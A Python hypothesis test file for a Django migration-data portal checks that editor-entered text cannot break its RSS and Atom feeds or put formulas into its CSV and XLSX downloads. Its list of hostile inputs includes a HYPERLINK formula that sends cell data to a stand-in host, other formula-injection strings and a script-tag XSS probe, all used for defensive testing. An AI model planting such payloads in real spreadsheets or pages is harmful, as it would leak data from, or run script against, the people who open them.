"""Any text an editor can write, saved through model validation, gives valid feeds and safe spreadsheets.

Property-based (hypothesis), over every text field editors write (slugs, codes and URLs have their own
validators): whatever Unicode string is saved — control characters from Word, lone surrogates, formulas,
markup — the RSS and Atom feeds (Spanish and English) are well-formed XML, the XLSX downloads open and
hold no formula, CSV text cells never start a formula, and every number is unchanged. Each example writes
every field at once (one property, few examples, derandomized: the same on every run); two written-out
examples put every nasty text in some field on each run.
"""

import csv
import io
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from migration.models import CensusEdition, CensusPopulation, Department, PopulationCensus, RecentMigration
from portal.core.exports import FORMULA_STARTS, PLAIN_NUMBER
from portal.core.models import ContentBlock
from portal.core.text import plain_text
from practices.models import Category, Institution, KeyFigure, Practice

# (model, field, how to find the row whose field is changed): each row appears in the feeds and downloads.
FIELDS = [
    (Practice, "title", {"slug": "sierra-sur"}),
    (Practice, "summary", {"slug": "sierra-sur"}),
    (Practice, "body", {"slug": "sierra-sur"}),
    (Practice, "programme", {"slug": "sierra-sur"}),
    (Category, "name", {"practices__slug": "sierra-sur"}),
    (Category, "description", {"practices__slug": "sierra-sur"}),
    (Institution, "name", {"practices__slug": "sierra-sur"}),
    (Institution, "acronym", {"practices__slug": "sierra-sur"}),
    (KeyFigure, "unit", {"practice__slug": "exportacion-banano-organico-piura", "order": 3}),
    (KeyFigure, "label", {"practice__slug": "exportacion-banano-organico-piura", "order": 3}),
    (Department, "name", {"slug": "cajamarca"}),
    (CensusEdition, "title", {"year": 2007}),
    (CensusEdition, "source", {"year": 2007}),
    (CensusEdition, "compiler", {"year": 2007}),
    (CensusEdition, "attribution", {"year": 2007}),
    (CensusEdition, "attribution_en", {"year": 2007}),
    (PopulationCensus, "source", {"year": 2007}),
    (CensusPopulation, "source", {"census__year": 2007, "department__slug": "cajamarca"}),
    (CensusPopulation, "source_en", {"census__year": 2007, "department__slug": "cajamarca"}),
    (RecentMigration, "name", {"departments__slug": "cajamarca"}),
    (RecentMigration, "source", {"departments__slug": "cajamarca"}),
    (RecentMigration, "source_en", {"departments__slug": "cajamarca"}),
    (ContentBlock, "title", {"key": "acerca_del_portal"}),
    (ContentBlock, "body", {"key": "acerca_del_portal"}),
    (ContentBlock, "title_en", {"key": "acerca_del_portal"}),
    (ContentBlock, "body_en", {"key": "acerca_del_portal"}),
]
NASTY = [
    "Línea\x0bsiguiente",
    "\x00\x01\x1f\x7f",
    "\ud800 surrogate \udfff",
    "\ufffe\uffff",
    '=HYPERLINK("http://example.invalid/?d="&A2,"Ver ficha")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "-531984",
    "<script>alert(1)</script>",
    "]]></description><x>",
    "&amp; &lt;",
]
texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(st.characters(codec=None, categories=None), max_size=40),  # any code point, surrogates included
)
FEEDS = ["/practicas/feed/rss/", "/practicas/feed/atom/", "/en/practicas/feed/rss/", "/en/practicas/feed/atom/"]


def check_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


def check_xlsx(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell.value), cell.value
        rows.append([cell.value for cell in row])
    return rows


def save_if_valid(model, field: str, lookup: dict, text: str) -> None:
    """Save ``text`` in the field as an editor's form would: through model validation, or not at all."""
    instance = model.objects.filter(**lookup).first()
    before = getattr(instance, field)
    setattr(instance, field, text)
    try:
        instance.full_clean()
    except ValidationError:  # too long, empty, or a name another row has: refused with a message, nothing stored
        assert getattr(model.objects.get(pk=instance.pk), field) == before, (model.__name__, field)
        return
    instance.save()
    assert getattr(model.objects.get(pk=instance.pk), field) == plain_text(text), (model.__name__, field)


@settings(max_examples=8, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(written=st.lists(texts, min_size=len(FIELDS), max_size=len(FIELDS)))
@example(written=[NASTY[number % len(NASTY)] for number in range(len(FIELDS))])
@example(written=[NASTY[-1 - number % len(NASTY)] for number in range(len(FIELDS))])
def test_any_text_saved_through_validation_gives_valid_feeds_and_safe_spreadsheets(client, db, written):
    """Each example writes a text in every field at once (each field its own text); then every feed and download."""
    for (model, field, lookup), text in zip(FIELDS, written, strict=True):
        save_if_valid(model, field, lookup, text)

    for url in FEEDS:
        response = client.get(url)
        assert response.status_code == 200, url
        ET.fromstring(response.content)  # noqa: S314 (our own feed): well-formed XML

    figures_csv = check_csv(client.get("/migracion/?descargar=csv").content)
    figures_xlsx = check_xlsx(client.get("/migracion/?descargar=xlsx").content)
    for url in ("/practicas/", "/migracion/poblacion/", "/migracion/reciente/"):
        check_csv(client.get(f"{url}?descargar=csv").content)
        check_xlsx(client.get(f"{url}?descargar=xlsx").content)
    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
    for name in archive.namelist():
        if name.endswith(".csv"):
            check_csv(archive.read(name))

    # Numbers unchanged: Cajamarca (whatever its name now) loses 531,984 people by migration.
    saldo = figures_csv[0].index("Saldo migratorio")
    assert "-531984" in [row[saldo] for row in figures_csv[1:]]
    assert -531984 in [row[saldo] for row in figures_xlsx[1:]]
    immigrants = figures_csv[0].index("Inmigrantes")
    assert "2781145" in [row[immigrants] for row in figures_csv[1:]]  # Lima's immigrants
